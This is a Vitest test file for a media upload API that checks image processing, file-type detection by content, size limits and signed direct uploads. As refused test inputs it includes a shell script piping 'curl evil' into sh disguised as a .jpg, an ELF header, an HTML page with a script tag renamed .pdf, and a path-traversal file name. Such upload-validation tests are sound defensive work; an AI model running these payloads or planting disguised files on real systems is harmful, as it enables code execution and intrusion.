import fs from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  fileTooBigMessage,
  mediaMessages,
  type MediaItem,
} from '@forma/contract/media/media.schemas';
import { bearer, signUp } from '../../../test/helpers.ts';
import { exists, storedPath, testImage, upload, uploadOk } from '../../../test/media.ts';
import { runJobs } from '../../../test/jobs.ts';
import { createTestApp, type TestApp } from '../../../test/test-app.ts';

let t: TestApp;
let coach: Awaited<ReturnType<typeof signUp>>;
beforeAll(async () => {
  t = await createTestApp({ MEDIA_MAX_UPLOAD_BYTES: String(2 * 1024 * 1024) });
  coach = await signUp(t.app);
});
afterAll(async () => {
  await t.close();
});

async function getItem(id: number, token = coach.token) {
  const response = await t.app.inject({
    method: 'GET',
    url: `/api/media/${id}`,
    headers: bearer(token),
  });
  return response;
}

describe('uploading an image (POST media, multipart field file)', () => {
  it('stores it under a generated name, then makes thumbnails and covers and publishes it', async () => {
    const jpeg = await testImage(1200, 800);
    const created = await uploadOk(t, coach.token, {
      name: 'Front squat ../../setup.JPG',
      content: jpeg,
    });
    expect(created).toMatchObject({
      type: 'image',
      kind: 'image',
      owner: 'current',
      state: 'created',
      // Browsers send the name without folders; any that come are dropped.
      title: 'setup',
      caption: 'setup.JPG',
      content_type: 'image/jpeg',
      thumb: null,
    });
    expect(created.src).toMatch(
      new RegExp(`^http://forma.test/uploads/media/file/${created.id}/[\\w-]+\\.jpg$`),
    );
    expect(created.src).not.toContain('setup');
    expect(await fs.readFile(storedPath(t, created.src!))).toEqual(jpeg);

    expect(await runJobs(t)).toBe(1);
    const item = (await getItem(created.id)).json<MediaItem>();
    expect(item).toMatchObject({
      state: 'published',
      width: 1200,
      height: 800,
      failure_reason: null,
    });
    const thumb = await sharp(storedPath(t, item.thumb!)).metadata();
    expect([thumb.width, thumb.height, thumb.format]).toEqual([64, 64, 'webp']);
    const small = await sharp(storedPath(t, item.thumb_small!)).metadata();
    expect([small.width, small.height]).toEqual([50, 50]);
    const widths = await Promise.all(
      [item.images!.cover_sm, item.images!.cover, item.images!.cover_hd].map(
        async (url) => (await sharp(storedPath(t, url)).metadata()).width,
      ),
    );
    // Never enlarged: a 1200 px image stays 1200 px at the HD size.
    expect(widths).toEqual([480, 960, 1200]);

    const served = await t.app.inject({ method: 'GET', url: new URL(item.thumb!).pathname });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['cache-control']).toContain('max-age=31536000');
  });

  it('takes the scope from a form field sent before the file', async () => {
    const response = await upload(
      t,
      coach.token,
      { name: 'a.png', content: await testImage(10, 10) },
      {
        fields: { scope: 'race' },
      },
    );
    expect(response.statusCode).toBe(403);
  });

  it('keeps documents as files, published at once, with their size as text', async () => {
    const csv = Buffer.from('exercise,sets,reps\nsquat,5,5\nbench,3,8\n');
    const item = await uploadOk(t, coach.token, { name: 'plan.xls', content: csv });
    expect(item).toMatchObject({
      type: 'other',
      state: 'published',
      content_type: 'text/csv',
      caption: 'plan.xls',
      file_size: '39 B',
      thumb: null,
    });
    expect(item.src).toMatch(/\.csv$/);
    const served = await t.app.inject({ method: 'GET', url: new URL(item.src!).pathname });
    expect(served.headers['content-type']).toMatch(/^text\/csv/);
  });
});

describe('files are checked by their bytes, not their name', () => {
  const elf = Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
    Buffer.alloc(4096),
  ]);

  it.each([
    ['an ELF executable named .jpg', 'photo.jpg', elf],
    ['a shell script named .jpg', 'photo.jpg', Buffer.from('#!/bin/sh\ncurl evil | sh\n')],
    ['an HTML page named .pdf', 'plan.pdf', Buffer.from('<html><script>alert(1)</script></html>')],
  ])('refuses %s and keeps nothing', async (_label, name, content) => {
    const before = await fs
      .readdir(path.join(t.config.dataDir, 'uploads', 'media', 'file'))
      .catch(() => []);
    const response = await upload(t, coach.token, { name, content, type: 'image/jpeg' });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.file).toEqual([mediaMessages.forbiddenType]);
    const after = await fs
      .readdir(path.join(t.config.dataDir, 'uploads', 'media', 'file'))
      .catch(() => []);
    expect(after).toEqual(before);
    expect(await fs.readdir(path.join(t.config.dataDir, 'tmp'))).toEqual([]);
  });

  it('refuses a request without a file part and an empty file', async () => {
    const wrongField = await upload(t, coach.token, {
      name: 'a.jpg',
      content: Buffer.from('x'),
      field: 'other',
    });
    expect(wrongField.statusCode).toBe(422);
    const empty = await upload(t, coach.token, { name: 'a.jpg', content: Buffer.alloc(0) });
    expect(empty.json().errors.file).toEqual([mediaMessages.emptyFile]);
  });
});

describe('the upload limit (spec 5: File is too big)', () => {
  it('refuses a file over the limit with the spec message and keeps nothing', async () => {
    const big = Buffer.alloc(3 * 1024 * 1024, 'a');
    const response = await upload(t, coach.token, { name: 'big.txt', content: big });
    expect(response.statusCode).toBe(422);
    const message = response.json().errors.file[0] as string;
    expect(message).toMatch(/^File is too big \(3(\.\d+)?Mb\)\. Max filesize: 2Mb\.$/);
    expect(fileTooBigMessage(3 * 1024 * 1024, 2 * 1024 * 1024)).toBe(
      'File is too big (3Mb). Max filesize: 2Mb.',
    );
    expect(await fs.readdir(path.join(t.config.dataDir, 'tmp'))).toEqual([]);
  });

  it('stops reading a file just past the limit (inside the allowance for multipart framing)', async () => {
    const body = Buffer.alloc(2 * 1024 * 1024 + 10, 'b');
    const response = await upload(t, coach.token, { name: 'big.txt', content: body });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.file[0]).toMatch(/^File is too big/);
  });
});

describe('direct uploads (POST media/direct_upload, PUT, POST media {media: {signed_id}})', () => {
  async function sign(body: Record<string, unknown>, token = coach.token) {
    return t.app.inject({
      method: 'POST',
      url: '/api/media/direct_upload',
      headers: bearer(token),
      payload: { filename: 'pose.png', content_type: 'image/png', byte_size: 10, ...body },
    });
  }

  it('signs an upload to the server, takes the bytes, then lists the checked file', async () => {
    const png = await sharp({
      create: { width: 300, height: 200, channels: 3, background: '#123456' },
    })
      .png()
      .toBuffer();
    const signed = await sign({ byte_size: png.length });
    expect(signed.statusCode).toBe(200);
    const { upload_url, headers, signed_id, media_id, method } = signed.json();
    expect(method).toBe('PUT');
    expect(upload_url).toContain(`/api/direct_uploads/media/file/${media_id}/`);
    // Not listed before the file arrives.
    const listed = await t.app.inject({
      method: 'GET',
      url: '/api/media/fetch',
      headers: bearer(coach.token),
    });
    expect(listed.json().items.map((i: MediaItem) => i.id)).not.toContain(media_id);

    const early = await t.app.inject({
      method: 'POST',
      url: '/api/media',
      headers: bearer(coach.token),
      payload: { media: { signed_id } },
    });
    expect(early.statusCode).toBe(422);
    expect(early.json().errors.signed_id).toEqual([mediaMessages.notUploaded]);

    const url = new URL(upload_url);
    const forged = await t.app.inject({
      method: 'PUT',
      url: `${url.pathname}?token=${url.searchParams.get('token')}x`,
      headers,
      payload: png,
    });
    expect(forged.statusCode).toBe(403);
    const put = await t.app.inject({
      method: 'PUT',
      url: url.pathname + url.search,
      headers,
      payload: png,
    });
    expect(put.statusCode).toBe(204);

    const done = await t.app.inject({
      method: 'POST',
      url: '/api/media',
      headers: bearer(coach.token),
      payload: { media: { signed_id } },
    });
    expect(done.statusCode).toBe(200);
    const item = done.json<MediaItem>();
    expect(item).toMatchObject({ id: media_id, type: 'image', state: 'created', title: 'pose' });
    expect(item.src).toMatch(/\.png$/);
    await runJobs(t);
    expect((await getItem(media_id)).json()).toMatchObject({ state: 'published', width: 300 });
  });

  it('refuses a body larger than signed, and a renamed executable after it arrived', async () => {
    const signed = (await sign({ byte_size: 16 })).json();
    const url = new URL(signed.upload_url);
    const tooLong = await t.app.inject({
      method: 'PUT',
      url: url.pathname + url.search,
      headers: signed.headers,
      payload: Buffer.alloc(64, 'a'),
    });
    expect(tooLong.statusCode).toBe(422);

    const script = Buffer.from('#!/bin/sh\nid\n');
    const second = (await sign({ byte_size: script.length, filename: 'cat.png' })).json();
    const secondUrl = new URL(second.upload_url);
    await t.app.inject({
      method: 'PUT',
      url: secondUrl.pathname + secondUrl.search,
      headers: second.headers,
      payload: script,
    });
    const done = await t.app.inject({
      method: 'POST',
      url: '/api/media',
      headers: bearer(coach.token),
      payload: { media: { signed_id: second.signed_id } },
    });
    expect(done.statusCode).toBe(422);
    expect(done.json().errors.file).toEqual([mediaMessages.forbiddenType]);
    expect(
      await exists(
        path.join(t.config.dataDir, 'uploads', 'media', 'file', String(second.media_id)),
      ),
    ).toBe(false);
  });

  it('refuses to sign a file over the limit, a forged signed id, and another coach finishing it', async () => {
    const big = await sign({ byte_size: 3 * 1024 * 1024 });
    expect(big.statusCode).toBe(422);
    expect(big.json().errors.file).toEqual(['File is too big (3Mb). Max filesize: 2Mb.']);

    const forged = await t.app.inject({
      method: 'POST',
      url: '/api/media',
      headers: bearer(coach.token),
      payload: { media: { signed_id: 'eyJpZCI6MX0.bad' } },
    });
    expect(forged.statusCode).toBe(422);
    expect(forged.json().errors.signed_id).toEqual([mediaMessages.uploadExpired]);

    const signed = (await sign({})).json();
    const other = await signUp(t.app);
    const stolen = await t.app.inject({
      method: 'POST',
      url: '/api/media',
      headers: bearer(other.token),
      payload: { media: { signed_id: signed.signed_id } },
    });
    expect(stolen.statusCode).toBe(404);
  });

  it('lets the coach delete a failed upload by its id', async () => {
    const signed = (await sign({})).json();
    const removed = await t.app.inject({
      method: 'DELETE',
      url: `/api/media/${signed.media_id}`,
      headers: bearer(coach.token),
    });
    expect(removed.statusCode).toBe(204);
  });
});

describe('direct uploads to S3 (S3_BUCKET set)', () => {
  it('signs a PUT straight to the bucket, with the content type and length in the signature', async () => {
    const s3 = await createTestApp({
      S3_BUCKET: 'forma-media',
      S3_REGION: 'eu-west-2',
      S3_ACCESS_KEY_ID: 'AKIAEXAMPLE',
      S3_SECRET_ACCESS_KEY: 'secret-example-key',
      S3_PUBLIC_URL: 'https://cdn.forma.test',
    });
    try {
      const person = await signUp(s3.app);
      const response = await s3.app.inject({
        method: 'POST',
        url: '/api/media/direct_upload',
        headers: bearer(person.token),
        payload: { filename: 'clip.mp4', content_type: 'video/mp4', byte_size: 1234 },
      });
      expect(response.statusCode).toBe(200);
      const { upload_url, headers, media_id } = response.json();
      const url = new URL(upload_url);
      expect(url.host).toBe('forma-media.s3.eu-west-2.amazonaws.com');
      expect(url.pathname).toMatch(new RegExp(`^/uploads/media/file/${media_id}/incoming-`));
      expect(url.searchParams.get('X-Amz-Credential')).toContain('AKIAEXAMPLE');
      expect(url.searchParams.get('X-Amz-SignedHeaders')).toContain('content-type');
      expect(url.searchParams.get('X-Amz-SignedHeaders')).toContain('content-length');
      expect(url.search).not.toContain('checksum');
      expect(headers).toEqual({ 'Content-Type': 'video/mp4' });
      const noDiskEndpoint = await s3.app.inject({
        method: 'PUT',
        url: '/api/direct_uploads/x?token=y',
      });
      expect(noDiskEndpoint.statusCode).toBe(404);
    } finally {
      await s3.close();
    }
  });
});
